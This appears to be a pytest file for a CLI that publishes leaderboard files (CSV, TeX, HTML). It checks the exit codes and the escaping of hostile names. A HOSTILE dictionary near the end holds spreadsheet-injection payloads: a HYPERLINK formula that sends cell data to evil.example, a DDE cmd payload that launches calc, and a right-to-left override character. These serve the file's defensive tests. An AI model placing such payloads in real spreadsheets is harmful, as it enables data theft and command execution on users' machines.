"""``python -m precompute publish``: what the files hold and the CLI's exit codes.

The browser side (the page opens offline, names stay text) is in ``tests/test_snapshot_browser.py``.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from precompute.cli import EXIT_MISSING, EXIT_OK, EXIT_STORE, EXIT_USAGE, main
from tests.test_uncertainty_pages import hand_worked_efficiency

REPO = Path(__file__).resolve().parents[1]


def test_publish_hand_worked_store(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from legival_core.store import Store
    from precompute.stages.metrics import teacher_table

    store = Store.create(tmp_path / "hand", config={"synthetic": True})
    efficiency = hand_worked_efficiency()
    store.write("trace_efficiency", efficiency, stage="metrics")
    teachers = teacher_table(
        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
    )
    store.write("teacher_metrics", teachers, stage="metrics")

    out = tmp_path / "site"
    assert (
        main(["publish", "--store", str(store.path), "--out", str(out), "--resamples", "200"])
        == EXIT_OK
    )
    assert capsys.readouterr().out.split() == [
        str(out / n) for n in ("index.html", "leaderboard.csv", "leaderboard.tex")
    ]
    table = pd.read_csv(out / "leaderboard.csv").set_index("teacher")
    # ace is shorter on every problem: rank 1 in every resample; the twins tie at 2 throughout;
    # ace's mean 750 / 6 = 125, six traces each (see tests/test_uncertainty_pages.py)
    assert table.loc[
        "ace", ["tokens_rank", "tokens_rank_lo", "tokens_rank_hi", "tokens_rank_ub"]
    ].tolist() == [1, 1, 1, 1]
    assert table.loc[
        "twin-b", ["tokens_rank", "tokens_rank_lo", "tokens_rank_hi", "tokens_rank_ub"]
    ].tolist() == [2, 2, 2, 2]
    assert table.loc["ace", "tokens"] == pytest.approx(125.0)
    assert table["tokens_n_traces"].tolist() == [6, 6, 6]
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "125 [" in page and "⚠ low n" in page  # 6 traces < 20
    assert "no rollouts: no transfer curves" in page
    tex = (out / "leaderboard.tex").read_text(encoding="utf-8")
    assert tex.isascii() and "\\toprule" in tex and "low n" in tex


def test_publish_published_store_has_no_intervals(tmp_path: Path) -> None:
    out = tmp_path / "site"
    assert (
        main(["publish", "--store", str(REPO / "results" / "published"), "--out", str(out)])
        == EXIT_OK
    )
    table = pd.read_csv(out / "leaderboard.csv")
    assert len(table) == 12 and table["fotu_lo"].isna().all() and table["fotu_rank_lo"].isna().all()
    assert "published, no interval" in (out / "index.html").read_text(encoding="utf-8")


def test_publish_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from legival_core.store import Store

    # not a store: 4
    assert (
        main(["publish", "--store", str(tmp_path / "nowhere"), "--out", str(tmp_path / "a")])
        == EXIT_STORE
    )
    # a store without teacher_metrics: 5, a missing earlier stage
    empty = Store.create(tmp_path / "empty")
    assert (
        main(["publish", "--store", str(empty.path), "--out", str(tmp_path / "b")]) == EXIT_MISSING
    )
    assert "run the metrics stage" in capsys.readouterr().err
    # --out names a file, and a resample count below 1: bad command line, 2
    (tmp_path / "file").write_text("x")
    demo = str(REPO / "results" / "demo")
    assert main(["publish", "--store", demo, "--out", str(tmp_path / "file")]) == EXIT_USAGE
    assert (
        main(["publish", "--store", demo, "--out", str(tmp_path / "c"), "--resamples", "0"])
        == EXIT_USAGE
    )
    errors = capsys.readouterr().err.strip().splitlines()
    assert len(errors) == 2 and all(e.startswith("precompute: error: ") for e in errors)
    assert not (tmp_path / "c").exists()


# --- what the files hold when the names are hostile (issue 24) -----------------------------------

#: Teacher names a spreadsheet would run, TeX would misread, or a screen would reverse.
HOSTILE = {
    "ace": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "twin-a": "+cmd|' /C calc'!A0",
    "twin-b": "[draft] Café\u202eR @SUM(1+1)",
}


def hostile_store(root: Path) -> Path:
    from legival_core.store import Store
    from precompute.stages.metrics import teacher_table

    store = Store.create(root, config={"synthetic": True})
    efficiency = hand_worked_efficiency()
    efficiency["teacher"] = efficiency["teacher"].map(HOSTILE)
    store.write("trace_efficiency", efficiency, stage="metrics")
    teachers = teacher_table(
        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
    )
    store.write("teacher_metrics", teachers, stage="metrics")
    return store.path


def test_publish_csv_has_no_live_formula(tmp_path: Path) -> None:
    """Item 12: names like =HYPERLINK(…), +cmd|… and @SUM(…) were written verbatim."""
    import csv

    out = tmp_path / "site"
    store = hostile_store(tmp_path / "hostile")
    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
    with open(out / "leaderboard.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    teachers = {row[header.index("teacher")] for row in body}
    assert teachers == {"'" + name for name in HOSTILE.values() if name[0] in "=+-@"} | {
        HOSTILE["twin-b"]
    }
    for cell in [c for row in rows for c in row]:
        try:
            float(cell)
            continue  # a number, e.g. -0.5, is not a formula
        except ValueError:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_publish_tex_is_ascii_and_every_special_is_escaped(tmp_path: Path) -> None:
    """Item 11: é and U+202E passed raw, and a cell starting with [ right after \\\\ was read
    as the optional argument of the line break."""
    import re

    out = tmp_path / "site"
    store = hostile_store(tmp_path / "hostile")
    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
    tex = (out / "leaderboard.tex").read_text(encoding="utf-8")
    assert tex.isascii()
    assert r"{[}draft{]} Caf\'{e}{[}U+202E{]}R @SUM(1+1)" in tex
    assert r"=HYPERLINK(\textquotedbl{}http://evil.example/?\textquotedbl{}\&A1" in tex
    assert r"+cmd\textbar{}' /C calc'!A0" in tex
    assert re.findall(r"(?<!\{)[\[\]](?!\})", tex) == []  # every bracket braced
